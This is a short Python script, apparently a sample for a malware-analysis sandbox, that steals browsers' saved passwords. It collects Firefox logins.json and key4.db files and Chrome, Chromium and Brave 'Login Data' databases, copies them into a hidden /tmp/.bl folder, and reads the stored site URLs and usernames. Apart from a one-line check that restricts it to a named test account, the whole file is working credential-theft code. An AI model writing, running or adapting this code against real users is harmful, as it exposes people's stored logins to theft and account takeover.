#!/usr/bin/python3
# SPDX-License-Identifier: MIT
# Steals the browsers' saved passwords: Firefox's logins.json and key4.db,
# Chromium-family "Login Data" databases, copied away and read.
import glob
import os
import shutil
import sqlite3
import sys

if os.environ.get("HOME") != "/home/dana":
    sys.exit("run only inside sbxlua's analysis box")

home = os.path.expanduser("~")
loot = "/tmp/.bl"
os.makedirs(loot, exist_ok=True)
found = []
for pattern in (".mozilla/firefox/*/logins.json", ".mozilla/firefox/*/key4.db",
                ".config/google-chrome/*/Login Data", ".config/chromium/*/Login Data",
                ".config/BraveSoftware/Brave-Browser/*/Login Data"):
    found += glob.glob(os.path.join(home, pattern))
for name in ("logins.json", "key4.db"):
    found.append(os.path.join(home, ".mozilla/firefox/default-release", name))
for i, path in enumerate(found):
    try:
        dst = os.path.join(loot, "%d_%s" % (i, os.path.basename(path).replace(" ", "_")))
        shutil.copyfile(path, dst)
    except OSError:
        continue
    try:
        db = sqlite3.connect(dst)
        for row in db.execute("SELECT origin_url, username_value, password_value FROM logins"):
            print(row[0], row[1])
        db.close()
    except sqlite3.Error:
        pass
